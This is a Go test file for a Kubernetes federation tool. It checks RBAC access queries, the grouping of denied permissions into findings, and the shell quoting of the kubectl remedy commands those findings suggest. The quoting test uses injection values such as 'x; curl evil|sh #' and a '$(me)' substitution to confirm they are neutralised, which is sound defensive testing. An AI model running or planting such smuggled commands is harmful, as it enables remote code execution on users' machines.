package access

import (
	"context"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime/schema"

	"github.com/fedsync/fedsync/internal/lab"
	"github.com/fedsync/fedsync/internal/membertest"
	"github.com/fedsync/fedsync/pkg/federation"
)

// questions returns one question for each verb.
func questions(resource, group, namespace string, verbs ...string) []Right {
	var all []Right
	for _, verb := range verbs {
		all = append(all, Right{Verb: verb, Resource: schema.GroupResource{Group: group, Resource: resource}, Namespace: namespace})
	}
	return all
}

func TestTheClusterIsAskedForAccess(t *testing.T) {
	m := membertest.NewMember(t, lab.Shared(t))
	admin := m.Sandbox.Client(t, m.Name).RbacV1()
	ctx := t.Context()
	role := &rbacv1.Role{
		ObjectMeta: metav1.ObjectMeta{Name: "some"},
		Rules:      []rbacv1.PolicyRule{{APIGroups: []string{"apps"}, Resources: []string{"replicasets"}, Verbs: []string{"get", "patch"}}},
	}
	binding := &rbacv1.RoleBinding{
		ObjectMeta: metav1.ObjectMeta{Name: "some"},
		RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: "some"},
		Subjects:   []rbacv1.Subject{{Kind: rbacv1.UserKind, APIGroup: rbacv1.GroupName, Name: lab.RestrictedUser}},
	}
	if _, err := admin.Roles(m.Namespace).Create(ctx, role, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	if _, err := admin.RoleBindings(m.Namespace).Create(ctx, binding, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	restricted, _ := membertest.NewClient(t, m.Sandbox.Restricted(m.Name))
	asked := questions("replicasets", "apps", m.Namespace, "get", "create", "patch", "delete")
	scale := Right{Verb: "patch", Resource: asked[0].Resource, Subresource: "scale", Namespace: m.Namespace}
	asked = append(asked, scale)

	// The API server's authorizer reads roles through its own cache.
	var denied []Right
	ctx, cancel := context.WithTimeout(ctx, membertest.Patience)
	defer cancel()
	for {
		var err error
		if denied, err = Ask(ctx, restricted, asked, 4); err != nil {
			t.Fatal(err)
		}
		if len(denied) < len(asked) {
			break
		}
	}
	if diff := cmp.Diff(append(questions("replicasets", "apps", m.Namespace, "create", "delete"), scale), denied); diff != "" {
		t.Errorf("denied to the restricted user (-want +got):\n%s", diff)
	}
	denied, err := Ask(ctx, m.Client, asked, 1)
	if err != nil || len(denied) > 0 {
		t.Errorf("denied to an administrator: %v, %v; want nothing", denied, err)
	}
	if user, err := User(ctx, restricted); err != nil || user != lab.RestrictedUser {
		t.Errorf("User = %q, %v; want %q", user, err, lab.RestrictedUser)
	}

	nobody := m.Sandbox.RESTConfig(m.Name)
	nobody.BearerToken = "expired-in-spring"
	client, _ := membertest.NewClient(t, nobody)
	if _, err := Ask(ctx, client, asked, 1); err == nil {
		t.Error("a cluster that does not know us: no error, want one")
	}
}

func TestOneMissingRoleIsOneFinding(t *testing.T) {
	all := []string{"get", "create", "patch", "delete"}
	join := func(parts ...[]Right) []Right {
		var joined []Right
		for _, p := range parts {
			joined = append(joined, p...)
		}
		return joined
	}
	for _, c := range []struct {
		name   string
		denied []Right
		want   []string
	}{
		{"nothing", nil, nil},
		{"one verb", questions("ingresses", "networking.k8s.io", "web", "create"), []string{`cannot create ingresses.networking.k8s.io in namespace "web"`}},
		{"all verbs", questions("services", "", "web", all...), []string{`cannot get, create, patch, delete services in namespace "web"`}},
		{
			"a status",
			[]Right{{Verb: "patch", Resource: schema.GroupResource{Group: "networking.k8s.io", Resource: "ingresses"}, Subresource: "status", Namespace: "web"}},
			[]string{`cannot patch ingresses.networking.k8s.io/status in namespace "web"`},
		},
		{
			"resources that lack the same",
			join(questions("services", "", "web", all...), questions("replicasets", "apps", "web", all...)),
			[]string{`cannot get, create, patch, delete replicasets.apps, services in namespace "web"`},
		},
		{
			"namespaces that lack the same",
			join(questions("services", "", "web", "create"), questions("services", "", "default", "create")),
			[]string{`cannot create services in namespaces "default", "web"`},
		},
		{
			"what lacks different things",
			join(questions("services", "", "web", "create"), questions("services", "", "default", "delete"), questions("services", "", "", "list", "watch"),
				[]Right{{Verb: "create", Resource: schema.GroupResource{Resource: "namespaces"}, Cluster: true}}),
			[]string{
				"cannot create namespaces",
				"cannot list, watch services in all namespaces",
				`cannot delete services in namespace "default"`,
				`cannot create services in namespace "web"`,
			},
		},
	} {
		t.Run(c.name, func(t *testing.T) {
			var got []string
			for _, f := range Findings("asia", "asia-context", "robot", c.denied) {
				got = append(got, f.Message.String())
				if f.ID != "D07" || f.Severity != federation.SeverityError || f.Cluster != "asia" {
					t.Errorf("finding %s %s of %s, want E D07 of asia", f.Severity, f.ID, f.Cluster)
				}
				if !strings.Contains(f.Remedy.String(), "kubectl --context=asia-context ") || !strings.Contains(f.Remedy.String(), "--user=robot") {
					t.Errorf("remedy %q, want a command for this context and user", f.Remedy)
				}
			}
			if diff := cmp.Diff(c.want, got); diff != "" {
				t.Errorf("findings (-want +got):\n%s", diff)
			}
		})
	}
}

func TestACommandGrantsAStatusAlone(t *testing.T) {
	denied := []Right{{Verb: "patch", Resource: schema.GroupResource{Group: "networking.k8s.io", Resource: "ingresses"}, Subresource: "status", Namespace: "web"}}
	const want = "--verb=patch --resource=ingresses.networking.k8s.io/status"
	if got := Findings("a", "a", "robot", denied)[0].Remedy.String(); !strings.Contains(got, want) {
		t.Errorf("the remedy is %q, want %q in it", got, want)
	}
}

func TestCommandsQuoteClusterText(t *testing.T) {
	for user, want := range map[string]string{
		"system:serviceaccount:web:fedsync": "--user=system:serviceaccount:web:fedsync",
		"ada@example.com":                   "--user=ada@example.com",
		"x; curl evil|sh #":                 `--user='x; curl evil|sh #'`,
		"it's $(me)\x1b[2J":                 `--user='it'\''s $(me)[2J'`,
		"":                                  "--user=''",
	} {
		for _, denied := range []Right{
			{Verb: "create", Resource: schema.GroupResource{Resource: "namespaces"}, Cluster: true},
			{Verb: "create", Resource: schema.GroupResource{Resource: "services"}, Namespace: "web"},
		} {
			got := Findings("a", "my context", user, []Right{denied})[0].Remedy.String()
			if !strings.HasSuffix(got, want) || !strings.Contains(got, "--context='my context' ") {
				t.Errorf("the remedy for %q is %q, want %q at its end", user, got, want)
			}
		}
	}
}
